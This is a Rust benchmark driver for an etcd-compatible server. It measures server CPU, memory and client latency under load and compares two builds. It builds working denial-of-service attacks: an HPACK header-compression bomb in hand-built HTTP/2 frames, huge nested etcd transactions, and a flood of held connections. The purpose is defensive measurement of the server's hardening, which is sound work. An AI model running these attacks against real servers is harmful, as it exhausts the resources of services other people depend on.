//! Attack driver for issue 18's measurements: runs one attack against a
//! running server while a well-behaved client (etcd-client) keeps doing
//! Puts on a connection of its own, and reports the server's CPU seconds
//! and memory (from /proc) and the probe's latency. `scripts/abuse/measure.sh`
//! runs it against two builds side by side.
//!
//! ```text
//! cargo run --release --example abuse -- --endpoint 127.0.0.1:2379 --pid PID ATTACK [N]
//! ATTACK: none SECONDS | hpack CONNECTIONS | hpack_for SECONDS
//!         | hpack_rate PER_SECOND | txn REQUESTS | flood CONNECTIONS
//! ```
//!
//! - `hpack`: each connection's first request header block (16 KiB) inserts
//!   a 4,000-byte value into the HPACK table and references it about
//!   12,350 times: 48 MiB decoded. 256 connections at a time.
//!   `hpack_for` keeps it up for that many seconds (for probe latency),
//!   `hpack_rate` for 10 s at that many connections a second (the same
//!   attack for both builds, whatever each can absorb).
//! - `txn`: nested txns of 1.6 MB within etcd's default --max-txn-ops: 16
//!   nested txns, each with 16 nested txns per branch, each branch 96 puts
//!   or 96 deletes of its own keys (98,304 ops, no duplicate key).
//! - `flood`: opens that many connections, each sending one Range, and
//!   holds them; then a client on a fresh connection tries a Put.
//! - `none`: the probe alone, for the unloaded latency.
//!
//! Output: one line of `key=value` pairs.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use bytes::Bytes;
use metastore::proto::etcdserverpb::{
    DeleteRangeRequest, PutRequest, RequestOp, TxnRequest, request_op::Request,
};
use prost::Message;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Bomb connections in flight at once.
const HPACK_CONCURRENCY: usize = 256;

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let value = |flag: &str| {
        args.iter()
            .position(|arg| arg == flag)
            .and_then(|index| args.get(index + 1))
            .unwrap_or_else(|| panic!("{flag} is required"))
            .clone()
    };
    let endpoint: SocketAddr = value("--endpoint").parse().expect("--endpoint host:port");
    let pid: u32 = value("--pid").parse().expect("--pid");
    let positional: Vec<&String> = args
        .iter()
        .enumerate()
        .filter(|(index, arg)| {
            !arg.starts_with("--") && (*index == 0 || !args[index - 1].starts_with("--"))
        })
        .map(|(_, arg)| arg)
        .collect();
    let attack = positional.first().map(|arg| arg.as_str()).unwrap_or("none");
    let count: usize = positional
        .get(1)
        .map_or(0, |arg| arg.parse().expect("a count"));
    raise_own_file_limit();
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .expect("runtime");
    runtime.block_on(run(endpoint, pid, attack, count));
}

/// The flood holds thousands of sockets.
fn raise_own_file_limit() {
    use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
    let limit = getrlimit(Resource::Nofile);
    let _ = setrlimit(
        Resource::Nofile,
        Rlimit {
            current: limit.maximum,
            maximum: limit.maximum,
        },
    );
}

async fn run(endpoint: SocketAddr, pid: u32, attack: &str, count: usize) {
    let mut probe_client = etcd_client::Client::connect([endpoint.to_string()], None)
        .await
        .expect("the probe connects");
    probe_client
        .put("probe", "warm", None)
        .await
        .expect("probe put");
    let cpu_before = cpu_seconds(pid);
    let attacking = Arc::new(AtomicBool::new(true));
    let probe = tokio::spawn(probe_loop(probe_client, attacking.clone()));
    let started = Instant::now();
    let outcome = match attack {
        "none" => {
            tokio::time::sleep(Duration::from_secs(count.max(1) as u64)).await;
            String::new()
        }
        "hpack" => hpack_attack(endpoint, count, None, None).await,
        "hpack_for" => {
            hpack_attack(endpoint, 0, Some(Duration::from_secs(count as u64)), None).await
        }
        "hpack_rate" => {
            hpack_attack(
                endpoint,
                0,
                Some(Duration::from_secs(10)),
                Some(count.max(1)),
            )
            .await
        }
        "txn" => txn_attack(endpoint, count.max(1)).await,
        "flood" => flood_attack(endpoint, count).await,
        other => panic!("unknown attack {other}"),
    };
    let attack_seconds = started.elapsed().as_secs_f64();
    attacking.store(false, Ordering::Relaxed);
    let mut latencies = probe.await.expect("probe task");
    let cpu = cpu_seconds(pid) - cpu_before;
    latencies.sort();
    let quantile = |q: f64| {
        latencies
            .get(((latencies.len() as f64 * q) as usize).min(latencies.len().saturating_sub(1)))
            .map_or(f64::NAN, |latency| latency.as_secs_f64() * 1e3)
    };
    println!(
        "attack={attack} n={count} seconds={attack_seconds:.2} server_cpu_s={cpu:.2} \
         probe_puts={} probe_p50_ms={:.2} probe_p99_ms={:.2} probe_max_ms={:.2} \
         rss_mib={:.1} peak_rss_mib={:.1} {outcome}",
        latencies.len(),
        quantile(0.5),
        quantile(0.99),
        latencies
            .last()
            .map_or(f64::NAN, |latency| latency.as_secs_f64() * 1e3),
        status_kib(pid, "VmRSS") as f64 / 1024.0,
        status_kib(pid, "VmHWM") as f64 / 1024.0,
    );
}

/// A Put every 10 ms (each waits for the previous one) until told to stop.
async fn probe_loop(mut client: etcd_client::Client, attacking: Arc<AtomicBool>) -> Vec<Duration> {
    let mut latencies = Vec::new();
    while attacking.load(Ordering::Relaxed) {
        let started = Instant::now();
        let put =
            tokio::time::timeout(Duration::from_secs(60), client.put("probe", "p", None)).await;
        match put {
            Ok(Ok(_)) => latencies.push(started.elapsed()),
            Ok(Err(error)) => eprintln!("probe put failed: {error}"),
            Err(_) => latencies.push(Duration::from_secs(60)),
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    latencies
}

fn cpu_seconds(pid: u32) -> f64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).expect("proc stat");
    // Fields after the command name (which may hold spaces) start at 3.
    let after_name = &stat[stat.rfind(')').expect("stat format") + 2..];
    let fields: Vec<&str> = after_name.split_whitespace().collect();
    let ticks: f64 =
        fields[11].parse::<f64>().expect("utime") + fields[12].parse::<f64>().expect("stime");
    ticks / clock_ticks_per_second()
}

fn clock_ticks_per_second() -> f64 {
    std::process::Command::new("getconf")
        .arg("CLK_TCK")
        .output()
        .ok()
        .and_then(|output| String::from_utf8(output.stdout).ok()?.trim().parse().ok())
        .unwrap_or(100.0)
}

fn status_kib(pid: u32, field: &str) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()
        .and_then(|status| {
            status.lines().find_map(|line| {
                line.strip_prefix(field)?
                    .strip_prefix(':')?
                    .split_whitespace()
                    .next()?
                    .parse()
                    .ok()
            })
        })
        .unwrap_or(0)
}

fn frame(kind: u8, flags: u8, stream_id: u32, payload: &[u8]) -> Vec<u8> {
    let mut out = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&stream_id.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// The bomb: static pseudo-headers, etcd 3.4's URL-shaped `:authority`
/// (which kept the old server re-encoding every block), a 4,000-byte
/// literal inserted into the table, then one-byte references to it up to
/// 16 KiB.
fn bomb_block() -> Vec<u8> {
    let authority = b"http://127.0.0.1:2379";
    let mut block = vec![0x83, 0x86, 0x84, 0x41, authority.len() as u8];
    block.extend(authority);
    block.extend([0x40, 0x03, b'x', b'-', b'b']);
    // 4,000 = 127 + 33 + 30 * 128 (RFC 7541 §5.1).
    block.extend([0x7f, 0xa1, 0x1e]);
    block.extend(std::iter::repeat_n(b'v', 4_000));
    block.extend(std::iter::repeat_n(0xbe, 16 * 1024 - block.len()));
    block
}

/// Bomb connections, 256 in flight: `connections` of them, or as many as
/// fit in `for_at_least` when it is set, at most `per_second` a second if
/// that is set.
async fn hpack_attack(
    endpoint: SocketAddr,
    connections: usize,
    for_at_least: Option<Duration>,
    per_second: Option<usize>,
) -> String {
    let mut bytes = PREFACE.to_vec();
    bytes.extend(frame(0x4, 0, 0, &[]));
    bytes.extend(frame(0x1, 0x4 | 0x1, 1, &bomb_block()));
    let bytes = Arc::new(bytes);
    let limit = Arc::new(tokio::sync::Semaphore::new(HPACK_CONCURRENCY));
    let started = Instant::now();
    let mut tasks = Vec::new();
    loop {
        let done = match for_at_least {
            Some(duration) => started.elapsed() >= duration,
            None => tasks.len() >= connections,
        };
        if done {
            break;
        }
        if let Some(rate) = per_second {
            let due = started + Duration::from_secs_f64(tasks.len() as f64 / rate as f64);
            tokio::time::sleep_until(due.into()).await;
        }
        let permit = limit.clone().acquire_owned().await.expect("semaphore");
        let bytes = bytes.clone();
        tasks.push(tokio::spawn(async move {
            let _permit = permit;
            let Ok(mut stream) = tokio::net::TcpStream::connect(endpoint).await else {
                return "connect_failed";
            };
            if stream.write_all(&bytes).await.is_err() {
                return "reset";
            }
            // Read until the server closes (or 5 s).
            let mut buffer = vec![0u8; 64 * 1024];
            let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
            loop {
                match tokio::time::timeout_at(deadline, stream.read(&mut buffer)).await {
                    Ok(Ok(0)) | Ok(Err(_)) => return "closed",
                    Ok(Ok(_)) => continue,
                    Err(_) => return "still_open",
                }
            }
        }));
    }
    let sent = tasks.len();
    let mut closed = 0;
    for task in tasks {
        if task.await.expect("attack task") != "still_open" {
            closed += 1;
        }
    }
    format!("bomb_connections={sent} closed_by_server={closed}")
}

fn nested_attack_txn() -> TxnRequest {
    let op = |request| RequestOp {
        request: Some(request),
    };
    let nested = |success, failure| {
        op(Request::RequestTxn(TxnRequest {
            compare: Vec::new(),
            success,
            failure,
        }))
    };
    let mut outer = Vec::new();
    for top in 0..16 {
        let branch = |side: usize| -> Vec<RequestOp> {
            (0..16)
                .map(|middle| {
                    let prefix = format!("k{top:x}{side}{middle:x}k");
                    let puts = (0..96)
                        .map(|leaf| {
                            op(Request::RequestPut(PutRequest {
                                key: Bytes::from(format!("{prefix}{leaf:02}")),
                                ..Default::default()
                            }))
                        })
                        .collect();
                    let deletes = (0..96)
                        .map(|leaf| {
                            op(Request::RequestDeleteRange(DeleteRangeRequest {
                                key: Bytes::from(format!("{prefix}{leaf:02}")),
                                range_end: Bytes::from(format!("{prefix}{leaf:02}~")),
                                ..Default::default()
                            }))
                        })
                        .collect();
                    nested(puts, deletes)
                })
                .collect()
        };
        outer.push(nested(branch(0), branch(1)));
    }
    TxnRequest {
        compare: Vec::new(),
        success: outer,
        failure: Vec::new(),
    }
}

/// One unary call over a fresh h2 connection; returns grpc-status and
/// grpc-message.
async fn unary(endpoint: SocketAddr, path: &str, body: Vec<u8>) -> (String, String) {
    let stream = tokio::net::TcpStream::connect(endpoint)
        .await
        .expect("connect");
    let (client, connection) = h2::client::Builder::new()
        .initial_window_size(1 << 20)
        .handshake::<_, Bytes>(stream)
        .await
        .expect("handshake");
    tokio::spawn(connection);
    let mut client = client.ready().await.expect("ready");
    let request = http::Request::builder()
        .method("POST")
        .uri(format!("http://{endpoint}{path}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())
        .expect("request");
    let (response, mut send) = client.send_request(request, false).expect("send");
    let mut message = vec![0u8];
    message.extend((body.len() as u32).to_be_bytes());
    message.extend(body);
    let mut message = Bytes::from(message);
    while !message.is_empty() {
        send.reserve_capacity(message.len());
        let available = std::future::poll_fn(|context| send.poll_capacity(context))
            .await
            .expect("capacity")
            .expect("capacity");
        let chunk = message.split_to(available.min(message.len()));
        send.send_data(chunk, message.is_empty()).expect("data");
    }
    let response = response.await.expect("response");
    let headers = response.headers().clone();
    let mut body = response.into_body();
    while let Some(chunk) = body.data().await {
        let chunk = chunk.expect("chunk");
        let _ = body.flow_control().release_capacity(chunk.len());
    }
    let trailers = body.trailers().await.ok().flatten().unwrap_or(headers);
    let field = |name: &str| {
        trailers
            .get(name)
            .and_then(|value| value.to_str().ok())
            .unwrap_or_default()
            .to_owned()
    };
    (field("grpc-status"), field("grpc-message"))
}

async fn txn_attack(endpoint: SocketAddr, requests: usize) -> String {
    let body = nested_attack_txn().encode_to_vec();
    let mut answers = Vec::new();
    let mut slowest = Duration::ZERO;
    for _ in 0..requests {
        let started = Instant::now();
        let (status, message) = unary(endpoint, "/etcdserverpb.KV/Txn", body.clone()).await;
        slowest = slowest.max(started.elapsed());
        answers.push(format!("{status}:{}", message.replace(' ', "_")));
    }
    answers.dedup();
    format!(
        "txn_bytes={} txn_slowest_ms={:.1} answers={}",
        body.len(),
        slowest.as_secs_f64() * 1e3,
        answers.join(",")
    )
}

async fn flood_attack(endpoint: SocketAddr, connections: usize) -> String {
    let mut block = vec![0x83, 0x86];
    // :path, literal without indexing, indexed name 4 (RFC 7541 §6.2.2).
    let path = b"/etcdserverpb.KV/Range";
    block.extend([0x04, path.len() as u8]);
    block.extend(path);
    block.extend([0x0f, 0x10, 16]);
    block.extend(b"application/grpc");
    let mut opening = PREFACE.to_vec();
    opening.extend(frame(0x4, 0, 0, &[]));
    opening.extend(frame(0x1, 0x4, 1, &block));
    opening.extend(frame(0x0, 0x1, 1, &[0, 0, 0, 0, 3, 0x0a, 0x01, b'a']));
    let opening = Arc::new(opening);
    let started = Instant::now();
    let mut held = Vec::new();
    let mut failed = 0;
    let limit = Arc::new(tokio::sync::Semaphore::new(256));
    let mut tasks = Vec::new();
    for _ in 0..connections {
        let (opening, limit) = (opening.clone(), limit.clone());
        tasks.push(tokio::spawn(async move {
            let _permit = limit.acquire_owned().await;
            let mut stream = tokio::net::TcpStream::connect(endpoint).await.ok()?;
            stream.write_all(&opening).await.ok()?;
            Some(stream)
        }));
    }
    for task in tasks {
        match task.await.expect("flood task") {
            Some(stream) => held.push(stream),
            None => failed += 1,
        }
    }
    let opened_seconds = started.elapsed().as_secs_f64();
    // What a fresh client (etcdctl) sees now.
    let fresh_started = Instant::now();
    let fresh = tokio::time::timeout(Duration::from_secs(10), async {
        let mut client = etcd_client::Client::connect([endpoint.to_string()], None).await?;
        client.put("fresh", "v", None).await
    })
    .await;
    let fresh_outcome = match fresh {
        Ok(Ok(_)) => "ok".to_owned(),
        Ok(Err(error)) => format!("error:{}", error.to_string().replace(' ', "_")),
        Err(_) => "timed_out".to_owned(),
    };
    let fresh_ms = fresh_started.elapsed().as_secs_f64() * 1e3;
    // Keep them a little longer while the probe runs.
    tokio::time::sleep(Duration::from_secs(2)).await;
    let held_count = held.len();
    drop(held);
    format!(
        "opened={held_count} failed={failed} open_seconds={opened_seconds:.1} \
         fresh_client={fresh_outcome} fresh_client_ms={fresh_ms:.0}"
    )
}
